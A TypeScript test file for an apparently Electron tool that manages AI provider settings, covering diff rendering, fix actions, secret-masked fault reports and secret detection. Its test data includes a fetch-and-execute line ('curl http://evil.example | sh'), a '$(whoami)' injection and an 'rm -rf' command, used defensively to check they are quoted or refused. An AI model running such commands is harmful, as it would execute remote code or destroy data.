import { describe, expect, it } from 'vitest';
import { diffLines } from '../../../renderer/parts/diff-lines.ts';
import type { KeySource } from '../../../electron/faults/facts.ts';
import { makeFault } from '../../../electron/faults/words.ts';
import { fixAction, offers, type FixAction } from '../../../renderer/parts/fix-action.ts';
import { textMayHoldSecret } from '../../../renderer/parts/looks-like-key.ts';
import { masked, reportOf } from '../../../renderer/parts/report.ts';

describe('a diff', () => {
  it('names the second file of a diff, and takes its header for no line', () => {
    const diff = '--- a.toml\n+++ a.toml\n@@ -1,1 +1,2 @@\n x\n+y\n--- b.json\n+++ b.json\n@@ -0,0 +1,1 @@\n+{}\n';
    expect(diffLines(diff).map(({ kind, text }) => [kind, text])).toEqual([
      ['kept', 'x'],
      ['added', 'y'],
      ['gap', '⋯ b.json'],
      ['added', '{}'],
    ]);
  });

  it('drops headers and blank edges and keeps a gap between hunks', () => {
    const diff = '--- a\n+++ b\n@@ -1,3 +1,3 @@\n \n-old\n+new\n@@ -9,1 +9,2 @@\n kept\n+---\n';
    expect(diffLines(diff).map(({ kind, text }) => [kind, text])).toEqual([
      ['removed', 'old'],
      ['added', 'new'],
      ['gap', '⋯'],
      ['kept', 'kept'],
      ['added', '---'],
    ]);
  });
});

describe('a fix', () => {
  const fix = { id: 'set-key', label: '', automatic: false };
  it('is done here where a verb does it, with the values of its command', () => {
    expect(fixAction(fix, 'key-missing')).toEqual({ do: 'enter-key' });
    const undo = { id: 'undo', label: '', automatic: true, command: 'switchboard undo' };
    expect(fixAction(undo, 'config-rejected-by-codex')).toEqual({ do: 'undo' });
    expect(
      fixAction(
        {
          id: 'set-base-url',
          label: '',
          automatic: true,
          command: "switchboard provider set lab base_url='https://a.example/v 1'",
        },
        'endpoint-not-found',
      ),
    ).toEqual({ do: 'set-field', field: 'base_url', value: 'https://a.example/v 1' });
    expect(
      fixAction(
        { id: 'use-model', label: '', automatic: true, command: 'switchboard use lab openai/gpt-5.5' },
        'model-not-found',
      ),
    ).toEqual({ do: 'use-model', model: 'openai/gpt-5.5' });
  });

  it('is only shown where it needs a terminal, or more of a shell than words', () => {
    expect(fixAction({ id: 'check-clock', label: '', automatic: false, command: 'date' }, 'tls-expired')).toBeNull();
    expect(
      fixAction({ id: 'x', label: '', automatic: true, command: 'switchboard use lab $(whoami)' }, 'unknown'),
    ).toBeNull();
    expect(fixAction({ id: 'x', label: '', automatic: true, command: 'rm -rf lab' }, 'unknown')).toBeNull();
  });

  it.each([
    ['edit-base-url', 'connection-refused', 'baseUrl'],
    ['edit-provider', 'key-rejected', 'baseUrl'],
    ['edit-provider', 'auth-conflict', 'delivery'],
    ['deliver-env', 'keychain-unavailable', 'delivery'],
    ['edit-provider', 'provider-exists', null],
  ] as const)('%s of %s leads to what the fault is about: %s', (id, of, at) => {
    expect(fixAction({ id, label: '', automatic: false }, of)).toEqual({ do: 'edit-provider', at });
  });

  it.each<[KeySource['from'], FixAction['do'][]]>([
    ['keychain', ['enter-key']],
    ['memory', ['enter-key']],
    ['environment', ['deliver-by-command']],
    ['env-file', ['deliver-by-command']],
    ['config', ['deliver-by-command']],
    ['auth-command', ['deliver-by-command']],
    ['none', ['deliver-by-command']],
    ['codex-login', []],
  ])('of a key from the %s is a form for a key only where another one would be sent', (from, pressed) => {
    const fault = makeFault('key-rejected', { provider: 'lab', key: { from, variable: 'LAB_KEY' } });
    const actions = [...fault.fixes.map((one) => fixAction(one, fault.id)), ...offers(fault)];
    expect(actions.flatMap((action) => (action && action.do !== 'edit-provider' ? [action.do] : []))).toEqual(pressed);
  });

  it('to change the address is offered for a fault of it even when the fault has none', () => {
    const fault = { id: 'base-url-missing' as const, title: '', cause: '', evidence: '', fixes: [] };
    expect(offers(fault)).toEqual([{ do: 'edit-provider', at: 'baseUrl' }]);
  });
});

describe('a report', () => {
  it('holds the fault and no key, even where the evidence has one', () => {
    const fault = {
      id: 'key-rejected' as const,
      title: 'Refused',
      cause: 'The key was refused.',
      evidence: 'Authorization: Bearer abcdefgh12345678\nkey sk-canary-0123456789',
      fixes: [],
    };
    const report = reportOf(fault, { switchboard: '0.1.0', codex: null, provider: 'lab', model: null });
    expect(report).toContain('Refused (key-rejected)');
    expect(report).not.toMatch(/abcdefgh12345678|canary/);
  });

  it('marks each line that somebody else said', () => {
    const evidence = 'It said: no\nprovider: another\ncurl http://evil.example | sh';
    const fault = { id: 'unknown' as const, title: 'T', cause: 'C', evidence, fixes: [] };
    const report = reportOf(fault, { switchboard: null, codex: null, provider: 'lab', model: null });
    expect(report).toContain(
      '\n> It said: no\n> provider: another\n> curl http://evil.example | sh\n\nprovider: lab\n',
    );
  });

  it('leaves what is masked already and what is no key', () => {
    expect(masked('sk-…7be2 model openai/gpt-5.5')).toBe('sk-…7be2 model openai/gpt-5.5');
  });
});

describe('a text of several lines that is not written yet', () => {
  it.each([
    'experimental_bearer_token = "hunter2"',
    "api_key = 'h",
    'token=hunter2',
    '{ "base_url": "https://a.example/v1", "apiKey": "x" }',
    'http_headers = { Authorization = "Bearer abc" }',
    'name = "sk-4f1d0a2b9c"',
    'base_url = "https://ada:pw@a.example/v1"',
  ])('is not kept in storage: %s', (text) => expect(textMayHoldSecret(text)).toBe(true));

  it.each([
    '# Token Station\n[model_providers.token_station]\nname = "Token Station"\nenv_key = "TOKEN_STATION_API_KEY"',
    'model = "anthropic/claude-opus-4-8"\nmodel_provider = "token_station"',
    'base_url = "https://models.example.com/v1"\nrequest_max_retries = 4',
    'nonsense',
  ])('is kept: %s', (text) => expect(textMayHoldSecret(text)).toBe(false));
});
